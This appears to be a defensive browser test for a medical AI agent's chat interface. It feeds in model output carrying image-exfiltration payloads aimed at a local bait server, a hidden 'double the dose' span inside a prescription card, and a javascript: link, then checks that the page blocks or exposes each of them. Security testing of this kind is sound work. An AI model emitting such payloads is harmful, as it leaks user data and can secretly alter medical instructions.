"""SECURITY.md item 6: untrusted text cannot load remote images or hide words, in a real browser.

The agent double answers with what a model, a tool result or a record could hold:
Markdown and HTML images pointing at a bait server on 127.0.0.1, and ``display:none``
spans, also inside the proposed write shown on the approval card. The page must send a
Content-Security-Policy, the bait server must receive no request, the hidden words must
be visible as text, and Gradio's own page must load with no CSP violation.
"""

from __future__ import annotations

import http.server
import os
import threading

import pytest
from live_app import CHROMIUM, CHROMIUM_ARGS, running_app
from ui_fakes import PRESCRIPTION, FakeAgent, direct_events

from docgemma.agent.outcome import TurnResult
from docgemma.tools.base import Source

ON_CI = os.environ.get("CI", "").lower() not in ("", "0", "false")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        not CHROMIUM.exists() and not ON_CI,
        reason="Chromium is not installed at /usr/bin/chromium (apt-get install chromium)",
    ),
]
HIDDEN = '<span style="display:none">double the dose</span>'


class Bait(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 (the http.server spelling)
        Bait.requests.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def bait_url():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Bait)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def attack_text(bait: str) -> str:
    return (
        f"Metformin is first line. ![chart]({bait}/md.png?leak=abc-123) "
        f'<img src="{bait}/html.png?leak=abc-123"> {HIDDEN} '
        f"![ref][r]\n\n[r]: {bait}/ref.png"
    )


@pytest.fixture(scope="module")
def app_url(tmp_path_factory, bait_url):
    text = attack_text(bait_url)
    rx = PRESCRIPTION.model_copy(
        update={
            "args": {**PRESCRIPTION.args, "frequency": f"daily {HIDDEN}"},
            "summary": f"Metformin for Jane <img src='{bait_url}/card.png'>",
        }
    )
    agent = FakeAgent(
        events=direct_events("Metformin is first line."),
        result=TurnResult(
            final_response=text,
            sources_used=[
                Source(title=f"Trial <img src='{bait_url}/src.png'>", url="javascript:alert(1)")
            ],
            pending_approval=rx,
        ),
    )
    with running_app(tmp_path_factory.mktemp("app"), agent_factory=lambda s, e: agent) as url:
        yield url


def test_remote_images_never_load_and_hidden_html_shows_as_text(app_url, bait_url):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_context(viewport={"width": 1400, "height": 1000}).new_page()
            console: list[str] = []
            page.on("console", lambda m: console.append(f"{m.type}: {m.text}"))
            response = page.goto(app_url)
            page.wait_for_selector("#msg textarea", timeout=60_000)
            csp = response.headers.get("content-security-policy", "")
            assert "img-src 'self' data: blob:" in csp and "connect-src 'self'" in csp

            page.fill("#msg textarea", "What is first line for diabetes?")
            page.keyboard.press("Enter")
            card = page.locator("#approval-card").first
            card.wait_for(state="visible", timeout=60_000)
            chat = page.locator("#chat")
            chat.get_by_text("double the dose").first.wait_for(timeout=10_000)
            page.wait_for_timeout(1500)  # time for any image request to be made

            assert Bait.requests == [], f"the page fetched {Bait.requests}"
            assert page.locator(f"#chat img[src^='{bait_url}']").count() == 0
            assert "<span" in chat.inner_text() and "double the dose" in chat.inner_text()
            card_text = card.inner_text()
            assert "double the dose" in card_text and "<span" in card_text
            assert "<img" in card_text  # the summary's tag is shown, not run
            page.click("#edit-btn")
            box = page.locator("#edit-frequency textarea")
            box.wait_for(state="visible", timeout=30_000)
            assert box.input_value() == f"daily {HIDDEN}"  # the edit box holds the raw text
            assert page.locator("#chat a[href^='javascript:']").count() == 0
            violations = [c for c in console if "Content Security Policy" in c]
            assert violations == [], violations  # Gradio's own page runs under the policy
        finally:
            browser.close()
